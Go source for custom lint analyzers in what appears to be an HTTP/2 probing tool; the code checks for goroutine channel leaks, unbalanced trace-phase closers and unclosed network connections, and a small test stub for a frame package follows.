	// the callee's parameters, so pairing checks see both sides.
	for _, g := range goStmts {
		ops = append(ops, mappedCalleeOps(info, g, chans, decls)...)
	}

	for _, g := range goStmts {
		for _, op := range ops {
			if op.goStmt != g || op.guarded {
				continue
			}
			ci := chans[op.ch]
			if ci == nil || ci.escapes {
				continue
			}
			switch op.kind {
			case opSend:
				if ci.buffered {
					continue
				}
				if hasUnguardedRecvOutside(ops, op.ch, g) {
					continue
				}
				pass.Reportf(op.node.Pos(), "goroutine sends on unbuffered channel %s with no unconditional receive; an abandoned select leaks the sender forever — buffer the channel or join the goroutine", op.ch.Name())
			case opRecv:
				if hasOp(ops, op.ch, opClose, nil) || hasSendOutside(ops, op.ch, g) {
					continue
				}
				pass.Reportf(op.node.Pos(), "goroutine blocks receiving from channel %s, which this function never sends to or closes — the goroutine can never finish", op.ch.Name())
			case opRange:
				if hasOp(ops, op.ch, opClose, nil) {
					continue
				}
				pass.Reportf(op.node.Pos(), "goroutine ranges over channel %s, which this function never closes — the range can never finish", op.ch.Name())
			}
		}
	}
}

// hasOp reports whether ops contains an operation of the given kind on ch;
// a non-nil excludeGo restricts the search to ops outside that go statement.
func hasOp(ops []chanOp, ch *types.Var, kind chanOpKind, excludeGo *ast.GoStmt) bool {
	for _, op := range ops {
		if op.ch == ch && op.kind == kind && (excludeGo == nil || op.goStmt != excludeGo) {
			return true
		}
	}
	return false
}

func hasSendOutside(ops []chanOp, ch *types.Var, g *ast.GoStmt) bool {
	for _, op := range ops {
		if op.ch == ch && op.kind == opSend && op.goStmt != g {
			return true
		}
	}
	return false
}

// hasUnguardedRecvOutside reports whether ch has a plain (non-select)
// receive or range outside goroutine g — the pairing that guarantees an
// unbuffered sender is eventually drained.
func hasUnguardedRecvOutside(ops []chanOp, ch *types.Var, g *ast.GoStmt) bool {
	for _, op := range ops {
		if op.ch == ch && (op.kind == opRecv || op.kind == opRange) && op.goStmt != g && !op.guarded {
			return true
		}
	}
	return false
}

// collectLocalChans finds channels created by make in this function and
// records their buffering. A make with a non-constant capacity is assumed
// buffered (benefit of the doubt).
func collectLocalChans(info *types.Info, body ast.Node) map[*types.Var]*localChan {
	out := make(map[*types.Var]*localChan)
	record := func(lhs ast.Expr, rhs ast.Expr) {
		call, ok := ast.Unparen(rhs).(*ast.CallExpr)
		if !ok || builtinName(info, call) != "make" {
			return
		}
		t := info.TypeOf(call)
		if t == nil {
			return
		}
		if _, isChan := t.Underlying().(*types.Chan); !isChan {
			return
		}
		v := localObject(info, lhs)
		if v == nil {
			return
		}
		buffered := false
		if len(call.Args) > 1 {
			buffered = true
			if tv, ok := info.Types[call.Args[1]]; ok && tv.Value != nil && tv.Value.String() == "0" {
				buffered = false
			}
		}
		out[v] = &localChan{v: v, buffered: buffered}
	}
	ast.Inspect(body, func(n ast.Node) bool {
		switch s := n.(type) {
		case *ast.AssignStmt:
			for i := range s.Lhs {
				if i < len(s.Rhs) {
					record(s.Lhs[i], s.Rhs[i])
				}
			}
		case *ast.DeclStmt:
			if gd, ok := s.Decl.(*ast.GenDecl); ok {
				for _, spec := range gd.Specs {
					if vs, ok := spec.(*ast.ValueSpec); ok {
						for i, name := range vs.Names {
							if i < len(vs.Values) {
								record(name, vs.Values[i])
							}
						}
					}
				}
			}
		}
		return true
	})
	return out
}

// walkChanUses records every operation on the tracked channels and marks
// channels whose identity leaks (aliased, passed to an unanalyzable call,
// stored, returned, sent as a value) as escaping.
func walkChanUses(info *types.Info, body ast.Node, chans map[*types.Var]*localChan, decls map[*types.Func]*ast.FuncDecl, ops *[]chanOp, goStmts *[]*ast.GoStmt) {
	var stack []ast.Node
	ast.Inspect(body, func(n ast.Node) bool {
		if n == nil {
			stack = stack[:len(stack)-1]
			return false
		}
		stack = append(stack, n)
		switch s := n.(type) {
		case *ast.GoStmt:
			*goStmts = append(*goStmts, s)
		case *ast.SendStmt:
			if v := trackedChan(info, chans, s.Chan); v != nil {
				*ops = append(*ops, chanOp{kind: opSend, ch: v, node: s, goStmt: nearestGo(stack), guarded: commGuarded(stack, s)})
			}
			if v := trackedChan(info, chans, s.Value); v != nil {
				chans[v].escapes = true
			}
		case *ast.UnaryExpr:
			if s.Op == token.ARROW {
				if v := trackedChan(info, chans, s.X); v != nil {
					*ops = append(*ops, chanOp{kind: opRecv, ch: v, node: s, goStmt: nearestGo(stack), guarded: commGuarded(stack, s)})
				}
			}
		case *ast.RangeStmt:
			if v := trackedChan(info, chans, s.X); v != nil {
				if t := info.TypeOf(s.X); t != nil {
					if _, isChan := t.Underlying().(*types.Chan); isChan {
						*ops = append(*ops, chanOp{kind: opRange, ch: v, node: s, goStmt: nearestGo(stack)})
					}
				}
			}
		case *ast.CallExpr:
			classifyCallUses(info, chans, decls, s, stack, ops)
		case *ast.ReturnStmt:
			for _, r := range s.Results {
				if v := trackedChan(info, chans, r); v != nil {
					chans[v].escapes = true
				}
			}
		case *ast.AssignStmt:
			// Re-aliasing a channel (ch2 := ch) loses track of it.
			for _, r := range s.Rhs {
				if v := trackedChan(info, chans, r); v != nil {
					chans[v].escapes = true
				}
			}
		case *ast.CompositeLit:
			for _, elt := range s.Elts {
				if kv, ok := elt.(*ast.KeyValueExpr); ok {
					elt = kv.Value
				}
				if v := trackedChan(info, chans, elt); v != nil {
					chans[v].escapes = true
				}
			}
		}
		return true
	})
}

// classifyCallUses handles channel arguments of one call: close() is an op,
// len/cap are free, arguments of a go statement's own resolvable call are
// mapped into the goroutine analysis by mappedCalleeOps, and anything else
// makes the channel escape.
func classifyCallUses(info *types.Info, chans map[*types.Var]*localChan, decls map[*types.Func]*ast.FuncDecl, call *ast.CallExpr, stack []ast.Node, ops *[]chanOp) {
	switch builtinName(info, call) {
	case "close":
		if len(call.Args) == 1 {
			if v := trackedChan(info, chans, call.Args[0]); v != nil {
				*ops = append(*ops, chanOp{kind: opClose, ch: v, node: call, goStmt: nearestGo(stack)})
			}
		}
		return
	case "":
		// Not a builtin; fall through to the escape check.
	default:
		return // len, cap, print, ... do not retain the channel
	}
	// `go f(ch)` with a body we can analyze keeps the channel tracked; the
	// callee's operations come back through mappedCalleeOps.
	if len(stack) >= 2 {
		if g, ok := stack[len(stack)-2].(*ast.GoStmt); ok && g.Call == call && goBodyResolvable(info, call, decls) {
			return
		}
	}
	for _, arg := range call.Args {
		if v := trackedChan(info, chans, arg); v != nil {
			chans[v].escapes = true
		}
	}
}

// goBodyResolvable reports whether the body behind a go statement's call is
// visible to the analysis: a func literal, or a same-package function or
// method with a declaration.
func goBodyResolvable(info *types.Info, call *ast.CallExpr, decls map[*types.Func]*ast.FuncDecl) bool {
	if _, ok := ast.Unparen(call.Fun).(*ast.FuncLit); ok {
		return true
	}
	f := calleeFunc(info, call)
	if f == nil {
		return false
	}
	decl := decls[f]
	return decl != nil && decl.Body != nil
}

// trackedChan resolves expr to a tracked channel variable, or nil.
func trackedChan(info *types.Info, chans map[*types.Var]*localChan, expr ast.Expr) *types.Var {
	v := localObject(info, expr)
	if v == nil {
		return nil
	}
	if _, ok := chans[v]; !ok {
		return nil
	}
	return v
}

// nearestGo returns the innermost enclosing go statement on the stack, or
// nil.
func nearestGo(stack []ast.Node) *ast.GoStmt {
	for i := len(stack) - 1; i >= 0; i-- {
		if g, ok := stack[i].(*ast.GoStmt); ok {
			return g
		}
	}
	return nil
}

// commGuarded reports whether node is part of the communication of a select
// case in a select statement that has an alternative: another case or a
// default.
func commGuarded(stack []ast.Node, node ast.Node) bool {
	for i := len(stack) - 1; i >= 0; i-- {
		cc, ok := stack[i].(*ast.CommClause)
		if !ok {
			continue
		}
		// node must be part of the comm statement itself, not the clause
		// body (a blocking op in the body is ordinary sequential code).
		if cc.Comm == nil || node.Pos() < cc.Comm.Pos() || node.End() > cc.Comm.End() {
			return false
		}
		for j := i - 1; j >= 0; j-- {
			if sel, ok := stack[j].(*ast.SelectStmt); ok {
				return len(sel.Body.List) > 1
			}
		}
		return false
	}
	return false
}

// mappedCalleeOps resolves a `go f(ch)` or `go func(p chan T){...}(ch)`
// statement: operations the callee body performs on its channel parameters
// are translated back to the caller's tracked channels and attributed to the
// goroutine.
func mappedCalleeOps(info *types.Info, g *ast.GoStmt, chans map[*types.Var]*localChan, decls map[*types.Func]*ast.FuncDecl) []chanOp {
	var params []*ast.Field
	var body *ast.BlockStmt
	switch fun := ast.Unparen(g.Call.Fun).(type) {
	case *ast.FuncLit:
		if fun.Type.Params == nil || len(fun.Type.Params.List) == 0 {
			return nil // captured channels are seen by the main walk
		}
		params, body = fun.Type.Params.List, fun.Body
	default:
		f := calleeFunc(info, g.Call)
		if f == nil {
			return nil
		}
		decl := decls[f]
		if decl == nil || decl.Body == nil || decl.Type.Params == nil {
			return nil
		}
		params, body = decl.Type.Params.List, decl.Body
	}

	// Map channel-typed parameters to the caller's tracked channels.
	paramToChan := make(map[*types.Var]*types.Var)
	argIdx := 0
	for _, field := range params {
		n := len(field.Names)
		if n == 0 {
			n = 1
		}
		for k := 0; k < n; k++ {
			if argIdx >= len(g.Call.Args) {
				break
			}
			if k < len(field.Names) {
				if pv, ok := info.Defs[field.Names[k]].(*types.Var); ok {
					if av := trackedChan(info, chans, g.Call.Args[argIdx]); av != nil {
						paramToChan[pv] = av
					}
				}
			}
			argIdx++
		}
	}
	if len(paramToChan) == 0 {
		return nil
	}

	resolve := func(expr ast.Expr) *types.Var {
		v := localObject(info, expr)
		if v == nil {
			return nil
		}
		return paramToChan[v]
	}
	var out []chanOp
	var stack []ast.Node
	ast.Inspect(body, func(n ast.Node) bool {
		if n == nil {
			stack = stack[:len(stack)-1]
			return false
		}
		stack = append(stack, n)
		switch s := n.(type) {
		case *ast.SendStmt:
			if ch := resolve(s.Chan); ch != nil {
				out = append(out, chanOp{kind: opSend, ch: ch, node: s, goStmt: g, guarded: commGuarded(stack, s)})
			}
		case *ast.UnaryExpr:
			if s.Op == token.ARROW {
				if ch := resolve(s.X); ch != nil {
					out = append(out, chanOp{kind: opRecv, ch: ch, node: s, goStmt: g, guarded: commGuarded(stack, s)})
				}
			}
		case *ast.RangeStmt:
			if ch := resolve(s.X); ch != nil {
				out = append(out, chanOp{kind: opRange, ch: ch, node: s, goStmt: g})
			}
		case *ast.CallExpr:
			if builtinName(info, s) == "close" && len(s.Args) == 1 {
				if ch := resolve(s.Args[0]); ch != nil {
					out = append(out, chanOp{kind: opClose, ch: ch, node: s, goStmt: g})
				}
			}
		}
		return true
	})
	return out
}
