package lint

import (
	"go/ast"
	"go/types"
)

// TracePhaseAnalyzer keeps probe-phase annotations balanced. trace.Tracer's
// Phase (and Prober's phase wrapper) returns a closer; the contract is
// `defer p.phase("name")()` — begin now, end at function exit. Discarding
// the closer, or deferring the Phase call itself instead of the closer,
// leaves a phase-start with no phase-end, and every later frame in the
// trace is attributed to a probe step that already finished: the timeline
// dangles and h2trace renders nonsense.
//
// The analyzer flags a phase call whose closer is provably never invoked:
// in statement position, assigned to blank, or assigned to a variable that
// is never called — plus the `defer p.phase("x")` typo that registers the
// *start* to run at exit. Passing or returning the closer is accepted.
// Tracer.Region — the connection-scoped variant the causal span layer
// reconstructs dial/TLS segments from — follows the same closer contract
// and is held to the same rule.
var TracePhaseAnalyzer = &Analyzer{
	Name: "tracephase",
	Doc:  "requires every probe-phase begin to have its end closer called (defer p.phase(...)() pattern; Region included)",
	Run:  runTracePhase,
}

func runTracePhase(pass *Pass) {
	info := pass.TypesInfo()
	for _, file := range pass.Files() {
		// pending maps closer variables to the phase call assigned to them,
		// until a call through the variable is seen.
		pending := make(map[*types.Var]*ast.CallExpr)
		ast.Inspect(file, func(n ast.Node) bool {
			switch s := n.(type) {
			case *ast.ExprStmt:
				if call, ok := s.X.(*ast.CallExpr); ok && isPhaseCall(info, call) {
					pass.Reportf(call.Pos(), "phase closer is discarded — the phase never ends (use defer %s())", exprText(call.Fun))
				}
			case *ast.DeferStmt:
				if isPhaseCall(info, s.Call) {
					pass.Reportf(s.Call.Pos(), "defer runs the phase *start* at function exit — call the closer instead: defer %s(...)()", exprText(s.Call.Fun))
				}
				if v := closerVar(info, s.Call); v != nil {
					delete(pending, v)
				}
			case *ast.AssignStmt:
				if len(s.Rhs) != 1 {
					return true
				}
				call, ok := ast.Unparen(s.Rhs[0]).(*ast.CallExpr)
				if !ok || !isPhaseCall(info, call) || len(s.Lhs) != 1 {
					return true
				}
				id, ok := s.Lhs[0].(*ast.Ident)
				if !ok {
					return true
				}
				if id.Name == "_" {
					pass.Reportf(call.Pos(), "phase closer is assigned to _ — the phase never ends")
					return true
				}
				if v, ok := info.Defs[id].(*types.Var); ok {
					pending[v] = call
				}
			case *ast.Ident:
				// Any later mention of the closer — calling it, deferring
				// it, passing it along — counts as handling; only closers
				// provably never touched again are flagged.
				if v, ok := info.Uses[s].(*types.Var); ok {
					delete(pending, v)
				}
			}
			return true
		})
		for _, call := range pending {
			pass.Reportf(call.Pos(), "phase closer is never called — the phase never ends")
		}
	}
}

// isPhaseCall reports whether call invokes a Phase/phase/Region method
// returning exactly one func() closer.
func isPhaseCall(info *types.Info, call *ast.CallExpr) bool {
	f := calleeFunc(info, call)
	if f == nil || (f.Name() != "Phase" && f.Name() != "phase" && f.Name() != "Region") {
		return false
	}
	sig, ok := f.Type().(*types.Signature)
	if !ok || sig.Results().Len() != 1 {
		return false
	}
	res, ok := sig.Results().At(0).Type().Underlying().(*types.Signature)
	return ok && res.Params().Len() == 0 && res.Results().Len() == 0
}

// closerVar returns the variable a `v()` call invokes, or nil.
func closerVar(info *types.Info, call *ast.CallExpr) *types.Var {
	id, ok := ast.Unparen(call.Fun).(*ast.Ident)
	if !ok {
		return nil
	}
	v, _ := info.Uses[id].(*types.Var)
	return v
}

// exprText renders a short expression (selector chains) for messages.
func exprText(e ast.Expr) string {
	switch e := ast.Unparen(e).(type) {
	case *ast.Ident:
		return e.Name
	case *ast.SelectorExpr:
		return exprText(e.X) + "." + e.Sel.Name
	case *ast.CallExpr:
		return exprText(e.Fun) + "(...)"
	default:
		return "phase"
	}
}
