package lint

import (
	"go/ast"
	"go/token"
	"go/types"
)

// ConnCloseAnalyzer flags leaked connections: a function that obtains a
// net.Conn (or h2conn.Conn) must, on every path out of the function, either
// close it, return it, or hand it off (pass it to a call, store it, send
// it, capture it in a closure — anything that plausibly transfers
// ownership). At scan scale a leaked connection per probed target exhausts
// file descriptors long before the target list does, and the failure
// surfaces as unrelated dial errors on later targets.
//
// The analysis is intraprocedural but path-sensitive and defer-aware: it
// walks each function body cloning the tracking state at branches, so
// "closed on the error path but leaked on success" (and vice versa) is
// caught, while a `defer c.Close()` — directly or inside a deferred closure
// — covers every return after it. Tracking is deliberately conservative:
// any use of the connection other than calling methods on it counts as an
// ownership transfer and ends tracking, so helper patterns like
// `defer closeConn(c)` or `go serve(nc)` never false-positive.
var ConnCloseAnalyzer = &Analyzer{
	Name: "connclose",
	Doc:  "requires every obtained net.Conn / h2conn.Conn to be closed, returned, or handed off on all paths",
	Run:  runConnClose,
}

func runConnClose(pass *Pass) {
	for _, file := range pass.Files() {
		ast.Inspect(file, func(n ast.Node) bool {
			var body *ast.BlockStmt
			switch fn := n.(type) {
			case *ast.FuncDecl:
				body = fn.Body
			case *ast.FuncLit:
				body = fn.Body
			}
			if body == nil {
				return true
			}
			w := &closeWalker{
				pass:         pass,
				info:         pass.TypesInfo(),
				acquired:     make(map[*types.Var]*acquisition),
				errCompanion: make(map[*types.Var][]*types.Var),
			}
			st := newPathState()
			if !w.walkBlock(body, st) {
				// Falling off the end of the function is a return.
				w.checkReturn(st)
			}
			return true
		})
	}
}

// connState is the per-path tracking state of one connection variable.
type connState uint8

const (
	// stOpen: obtained, not yet closed or handed off on this path.
	stOpen connState = iota
	// stClosed: Close was called on this path.
	stClosed
	// stEscaped: ownership plausibly transferred on this path.
	stEscaped
)

// acquisition records where a tracked connection variable was obtained.
type acquisition struct {
	obj      *types.Var
	pos      token.Pos
	callee   string
	reported bool
}

// pathState is the cloneable abstract state of one control-flow path.
type pathState struct {
	state map[*types.Var]connState
	// deferred marks connections covered by a registered defer-close.
	deferred map[*types.Var]bool
}

func newPathState() *pathState {
	return &pathState{state: make(map[*types.Var]connState), deferred: make(map[*types.Var]bool)}
}

func (s *pathState) clone() *pathState {
	c := newPathState()
	for k, v := range s.state {
		c.state[k] = v
	}
	for k, v := range s.deferred {
		c.deferred[k] = v
	}
	return c
}

// merge folds two reachable path states: a connection open on either path
// is open, a defer-close must hold on both to survive.
func (s *pathState) merge(a, b *pathState) {
	s.state = make(map[*types.Var]connState)
	for _, src := range []*pathState{a, b} {
		for v, st := range src.state {
			cur, ok := s.state[v]
			if !ok {
				s.state[v] = st
				continue
			}
			switch {
			case cur == stOpen || st == stOpen:
				s.state[v] = stOpen
			case cur == stEscaped || st == stEscaped:
				s.state[v] = stEscaped
			}
		}
	}
	s.deferred = make(map[*types.Var]bool)
	for v := range a.deferred {
		if b.deferred[v] {
			s.deferred[v] = true
		}
	}
}

type closeWalker struct {
	pass     *Pass
	info     *types.Info
	acquired map[*types.Var]*acquisition
	// errCompanion maps an error variable to the connections defined in the
	// same `c, err := dial()` statement. When `err != nil` is known true the
	// companions are nil, so the error branch has nothing to close.
	errCompanion map[*types.Var][]*types.Var
}

// checkReturn reports every connection still open and not defer-covered
// when a path leaves the function.
func (w *closeWalker) checkReturn(st *pathState) {
	for v, state := range st.state {
		if state != stOpen || st.deferred[v] {
			continue
		}
		acq := w.acquired[v]
		if acq == nil || acq.reported {
			continue
		}
		acq.reported = true
		w.pass.Reportf(acq.pos, "connection %q obtained from %s is not closed on every path (close it, return it, or hand it off)", v.Name(), acq.callee)
	}
}

// walkBlock walks stmts, returning true when every path through them leaves
// the function. Connections first acquired inside the block that are still
// open when it ends have gone out of scope — that is a leak too.
func (w *closeWalker) walkBlock(block *ast.BlockStmt, st *pathState) bool {
	before := make(map[*types.Var]bool, len(st.state))
	for v := range st.state {
		before[v] = true
	}
	terminated := w.walkStmts(block.List, st)
	if !terminated {
		for v, state := range st.state {
			if before[v] || state != stOpen || st.deferred[v] {
				continue
			}
			if acq := w.acquired[v]; acq != nil && !acq.reported {
				acq.reported = true
				w.pass.Reportf(acq.pos, "connection %q obtained from %s goes out of scope while still open", v.Name(), acq.callee)
			}
			delete(st.state, v)
		}
	}
	return terminated
}

func (w *closeWalker) walkStmts(stmts []ast.Stmt, st *pathState) bool {
	for _, stmt := range stmts {
		if w.walkStmt(stmt, st) {
			return true
		}
	}
	return false
}

// walkStmt interprets one statement, returning true when it unconditionally
// leaves the enclosing flow.
func (w *closeWalker) walkStmt(stmt ast.Stmt, st *pathState) bool {
	switch s := stmt.(type) {
	case *ast.AssignStmt:
		for _, rhs := range s.Rhs {
			w.scanExpr(rhs, st)
		}
		// Reassigning a tracked variable ends tracking of the old value, and
		// reassigning an error variable ends its companion pairing (the old
		// error no longer says anything about the connection's nil-ness).
		for _, lhs := range s.Lhs {
			if v := w.trackedIdent(lhs, st); v != nil && s.Tok != token.DEFINE {
				st.state[v] = stEscaped
			}
			if id, ok := ast.Unparen(lhs).(*ast.Ident); ok {
				if v := w.lhsVar(id); v != nil {
					delete(w.errCompanion, v)
				}
			}
		}
		w.trackAcquisitions(s, st)
		return false

	case *ast.ExprStmt:
		if terminatesFlow(w.info, s) {
			return true
		}
		w.scanExpr(s.X, st)
		return false

	case *ast.DeferStmt:
		w.walkDefer(s.Call, st)
		return false

	case *ast.GoStmt:
		w.scanExpr(s.Call, st)
		return false

	case *ast.ReturnStmt:
		for _, res := range s.Results {
			w.scanExpr(res, st)
		}
		w.checkReturn(st)
		return true

	case *ast.BranchStmt:
		// break / continue / goto leave the enclosing block; stop tracking
		// this path rather than guess where it lands.
		return true

	case *ast.BlockStmt:
		return w.walkBlock(s, st)

	case *ast.LabeledStmt:
		return w.walkStmt(s.Stmt, st)

	case *ast.IfStmt:
		if s.Init != nil {
			w.walkStmt(s.Init, st)
		}
		w.scanExpr(s.Cond, st)
		thenSt := st.clone()
		elseSt := st.clone()
		// On the branch where a companion error is known non-nil the
		// connections defined alongside it are nil — nothing to close there.
		if errV, nonNilBranch := w.errNilCheck(s.Cond); errV != nil {
			errPath := thenSt
			if !nonNilBranch {
				errPath = elseSt
			}
			for _, c := range w.errCompanion[errV] {
				if errPath.state[c] == stOpen {
					errPath.state[c] = stClosed
				}
			}
		}
		thenTerm := w.walkBlock(s.Body, thenSt)
		elseTerm := false
		if s.Else != nil {
			elseTerm = w.walkStmt(s.Else, elseSt)
		}
		switch {
		case thenTerm && elseTerm:
			return true
		case thenTerm:
			*st = *elseSt
		case elseTerm:
			*st = *thenSt
		default:
			st.merge(thenSt, elseSt)
		}
		return false

	case *ast.ForStmt:
		if s.Init != nil {
			w.walkStmt(s.Init, st)
		}
		if s.Cond != nil {
			w.scanExpr(s.Cond, st)
		}
		bodySt := st.clone()
		w.walkBlock(s.Body, bodySt)
		if s.Post != nil {
			w.walkStmt(s.Post, bodySt)
		}
		st.merge(st.clone(), bodySt)
		return false

	case *ast.RangeStmt:
		w.scanExpr(s.X, st)
		bodySt := st.clone()
		w.walkBlock(s.Body, bodySt)
		st.merge(st.clone(), bodySt)
		return false

	case *ast.SwitchStmt:
		if s.Init != nil {
			w.walkStmt(s.Init, st)
		}
		if s.Tag != nil {
			w.scanExpr(s.Tag, st)
		}
		return w.walkCases(s.Body, st, true)

	case *ast.TypeSwitchStmt:
		if s.Init != nil {
			w.walkStmt(s.Init, st)
		}
		w.walkStmt(s.Assign, st)
		return w.walkCases(s.Body, st, true)

	case *ast.SelectStmt:
		return w.walkCases(s.Body, st, false)

	case *ast.SendStmt:
		w.scanExpr(s.Chan, st)
		w.scanExpr(s.Value, st)
		return false

	case *ast.DeclStmt, *ast.IncDecStmt, *ast.EmptyStmt:
		ast.Inspect(stmt, func(n ast.Node) bool {
			if e, ok := n.(ast.Expr); ok {
				w.scanExpr(e, st)
				return false
			}
			return true
		})
		return false
	}
	return false
}

// walkCases interprets switch/select bodies: each clause runs on a clone of
// the entry state and the reachable exits merge. needDefault reports
// whether a missing default keeps the entry state reachable (switch yes,
// select no — a default-less select blocks until a case fires).
func (w *closeWalker) walkCases(body *ast.BlockStmt, st *pathState, needDefault bool) bool {
	var exits []*pathState
	hasDefault := false
	for _, clause := range body.List {
		var stmts []ast.Stmt
		switch c := clause.(type) {
		case *ast.CaseClause:
			for _, e := range c.List {
				w.scanExpr(e, st)
			}
			if c.List == nil {
				hasDefault = true
			}
			stmts = c.Body
		case *ast.CommClause:
			if c.Comm == nil {
				hasDefault = true
			}
			stmts = c.Body
		}
		caseSt := st.clone()
		// A comm op (e.g. `case ch <- conn:`) takes effect only on its own
		// path, so it is interpreted on the clone.
		if c, ok := clause.(*ast.CommClause); ok && c.Comm != nil {
			w.walkStmt(c.Comm, caseSt)
		}
		if !w.walkStmts(stmts, caseSt) {
			exits = append(exits, caseSt)
		}
	}
	if needDefault && !hasDefault {
		exits = append(exits, st.clone())
	}
	if len(exits) == 0 {
		return len(body.List) > 0
	}
	merged := exits[0]
	for _, e := range exits[1:] {
		next := newPathState()
		next.merge(merged, e)
		merged = next
	}
	*st = *merged
	return false
}

// walkDefer interprets a defer statement. `defer c.Close()` and
// `defer func() { ...c.Close()... }()` cover all later returns; any other
// deferred use of a tracked connection transfers ownership.
func (w *closeWalker) walkDefer(call *ast.CallExpr, st *pathState) {
	if v := w.closeReceiver(call, st); v != nil {
		st.deferred[v] = true
		return
	}
	if lit, ok := ast.Unparen(call.Fun).(*ast.FuncLit); ok {
		closed := make(map[*types.Var]bool)
		ast.Inspect(lit.Body, func(n ast.Node) bool {
			if c, ok := n.(*ast.CallExpr); ok {
				if v := w.closeReceiver(c, st); v != nil {
					closed[v] = true
				}
			}
			return true
		})
		for v := range closed {
			st.deferred[v] = true
		}
		// Other tracked variables captured by the closure escape.
		w.scanExprExcept(lit, st, closed)
		for _, arg := range call.Args {
			w.scanExpr(arg, st)
		}
		return
	}
	w.scanExpr(call, st)
}

// closeReceiver returns the tracked variable v when call is v.Close().
func (w *closeWalker) closeReceiver(call *ast.CallExpr, st *pathState) *types.Var {
	sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr)
	if !ok || sel.Sel.Name != "Close" {
		return nil
	}
	return w.trackedIdent(sel.X, st)
}

// trackedIdent resolves expr to a tracked connection variable, or nil.
func (w *closeWalker) trackedIdent(expr ast.Expr, st *pathState) *types.Var {
	id, ok := ast.Unparen(expr).(*ast.Ident)
	if !ok {
		return nil
	}
	v, ok := w.info.Uses[id].(*types.Var)
	if !ok {
		if v, ok = w.info.Defs[id].(*types.Var); !ok {
			return nil
		}
	}
	if _, tracked := st.state[v]; !tracked {
		return nil
	}
	return v
}

// trackAcquisitions registers `v, err := dial()`-style definitions whose
// call results include a connection type. A call that itself receives a
// connection argument is a wrapper (tls.Client(nc, ...), h2conn.Dial(nc)):
// the wrapped connection's owner remains responsible for the socket, so the
// result is not tracked as a fresh acquisition.
func (w *closeWalker) trackAcquisitions(s *ast.AssignStmt, st *pathState) {
	if s.Tok != token.DEFINE || len(s.Rhs) != 1 {
		return
	}
	call, ok := ast.Unparen(s.Rhs[0]).(*ast.CallExpr)
	if !ok {
		return
	}
	f := calleeFunc(w.info, call)
	if f == nil {
		return
	}
	results := callResults(w.info, call)
	if results == nil || results.Len() != len(s.Lhs) {
		return
	}
	for _, arg := range call.Args {
		if t := w.info.TypeOf(arg); t != nil && isNetConnLike(t) {
			return
		}
	}
	var conns []*types.Var
	var errV *types.Var
	for i := 0; i < results.Len(); i++ {
		id, ok := s.Lhs[i].(*ast.Ident)
		if !ok || id.Name == "_" {
			continue
		}
		if isErrorType(results.At(i).Type()) {
			errV = w.lhsVar(id)
			continue
		}
		if !isNetConnLike(results.At(i).Type()) {
			continue
		}
		v, ok := w.info.Defs[id].(*types.Var)
		if !ok {
			continue
		}
		st.state[v] = stOpen
		w.acquired[v] = &acquisition{obj: v, pos: id.Pos(), callee: f.Name()}
		conns = append(conns, v)
	}
	if errV != nil && len(conns) > 0 {
		w.errCompanion[errV] = conns
	}
}

// lhsVar resolves an assignment target identifier to its variable, whether
// the statement defines it or reuses it.
func (w *closeWalker) lhsVar(id *ast.Ident) *types.Var {
	if v, ok := w.info.Defs[id].(*types.Var); ok {
		return v
	}
	v, _ := w.info.Uses[id].(*types.Var)
	return v
}

// errNilCheck matches `err != nil` / `err == nil` conditions over a tracked
// companion error. It returns the error variable and whether the *then*
// branch is the one where err is non-nil.
func (w *closeWalker) errNilCheck(cond ast.Expr) (*types.Var, bool) {
	bin, ok := ast.Unparen(cond).(*ast.BinaryExpr)
	if !ok || (bin.Op != token.NEQ && bin.Op != token.EQL) {
		return nil, false
	}
	operand := func(e ast.Expr) (v *types.Var, isNil bool) {
		id, ok := ast.Unparen(e).(*ast.Ident)
		if !ok {
			return nil, false
		}
		if id.Name == "nil" {
			return nil, true
		}
		v, _ = w.info.Uses[id].(*types.Var)
		return v, false
	}
	xv, xNil := operand(bin.X)
	yv, yNil := operand(bin.Y)
	var errV *types.Var
	switch {
	case xNil && yv != nil:
		errV = yv
	case yNil && xv != nil:
		errV = xv
	default:
		return nil, false
	}
	if _, ok := w.errCompanion[errV]; !ok {
		return nil, false
	}
	return errV, bin.Op == token.NEQ
}

// scanExpr walks an expression marking closes and escapes of tracked
// connections: v.Close() closes v, v as the receiver of any other method
// call is a plain use, and v anywhere else transfers ownership.
func (w *closeWalker) scanExpr(expr ast.Expr, st *pathState) {
	w.scanExprExcept(expr, st, nil)
}

func (w *closeWalker) scanExprExcept(expr ast.Expr, st *pathState, skip map[*types.Var]bool) {
	if expr == nil {
		return
	}
	switch e := ast.Unparen(expr).(type) {
	case *ast.CallExpr:
		if v := w.closeReceiver(e, st); v != nil {
			if st.state[v] == stOpen {
				st.state[v] = stClosed
			}
			for _, arg := range e.Args {
				w.scanExprExcept(arg, st, skip)
			}
			return
		}
		if sel, ok := ast.Unparen(e.Fun).(*ast.SelectorExpr); ok {
			if v := w.trackedIdent(sel.X, st); v != nil {
				if _, isMethod := w.info.Selections[sel]; isMethod {
					// Receiver of a non-Close method call: use, not escape.
					for _, arg := range e.Args {
						w.scanExprExcept(arg, st, skip)
					}
					return
				}
			}
			w.scanExprExcept(sel.X, st, skip)
			for _, arg := range e.Args {
				w.scanExprExcept(arg, st, skip)
			}
			return
		}
		w.scanExprExcept(e.Fun, st, skip)
		for _, arg := range e.Args {
			w.scanExprExcept(arg, st, skip)
		}
	case *ast.FuncLit:
		// A closure capturing a tracked connection takes ownership.
		ast.Inspect(e.Body, func(n ast.Node) bool {
			if id, ok := n.(*ast.Ident); ok {
				if v := w.trackedIdent(id, st); v != nil && !skip[v] {
					st.state[v] = stEscaped
				}
			}
			return true
		})
	case *ast.Ident:
		if v := w.trackedIdent(e, st); v != nil && !skip[v] {
			st.state[v] = stEscaped
		}
	default:
		ast.Inspect(expr, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.CallExpr:
				w.scanExprExcept(n, st, skip)
				return false
			case *ast.FuncLit:
				w.scanExprExcept(n, st, skip)
				return false
			case *ast.Ident:
				if v := w.trackedIdent(n, st); v != nil && !skip[v] {
					st.state[v] = stEscaped
				}
			}
			return true
		})
	}
}
