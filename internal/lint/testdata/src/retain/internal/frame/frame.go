// Package frame is a golden-test double for h2scope/internal/frame: the
// retain analyzer matches Framer, the typed frames, and CopyPayload by
// package-path suffix. The real package is exempt from the analyzer (it owns
// the recycled buffers); this stub exists so the fixture package can exercise
// the consumer-side contract.
package frame

// Header mimics the wire header of a frame.
type Header struct {
	Type     uint8
	Flags    uint8
	Length   uint32
	StreamID uint32
}

// Frame mimics the frame interface returned by ReadFrame.
type Frame interface {
	Header() Header
}

